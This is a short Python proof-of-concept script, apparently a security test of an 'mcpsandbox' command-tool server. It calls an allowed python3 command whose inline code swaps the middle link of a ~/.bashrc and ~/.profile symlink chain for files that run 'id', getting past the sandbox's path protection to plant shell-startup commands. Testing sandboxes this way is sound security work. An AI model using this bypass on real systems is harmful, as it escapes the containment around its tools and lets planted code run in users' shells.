#!/usr/bin/env python3
"""homelinks, a chain: ~/.bashrc -> ws/bashrc, itself a link in the dotfiles repo (-> shell/bashrc, or -> /etc/profile
for ~/.profile). Find protects the chain's resolved end; a command replaces the link in the middle with a file of its
own (run after f2_homelinks.py, which makes the links; policy py.toml pins python3)."""
import sys, os, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
home = "/tmp/atk40b/home"
inside = "import os\nfor n in ('bashrc', 'profile'):\n    os.remove(n)\n    open(n, 'w').write('id > /tmp/atk40b/PWNED-' + n + '\\n')\nprint('replaced')\n"
s = Stdio(["/tmp/atk40b/mcpsandbox", "serve", "--policy", "/tmp/atk40b/py.toml"], env={"HOME": home, "PATH": "/usr/bin:/bin"}, err="/tmp/atk40b/f2b.log")
print(text(s.call("run_allowed_command", {"command": "python3", "args": ["-c", inside]})).strip())
s.close()
for h in (".bashrc", ".profile"):
    print(f"~/{h} now reads: {open(home + '/' + h).read()!r}")
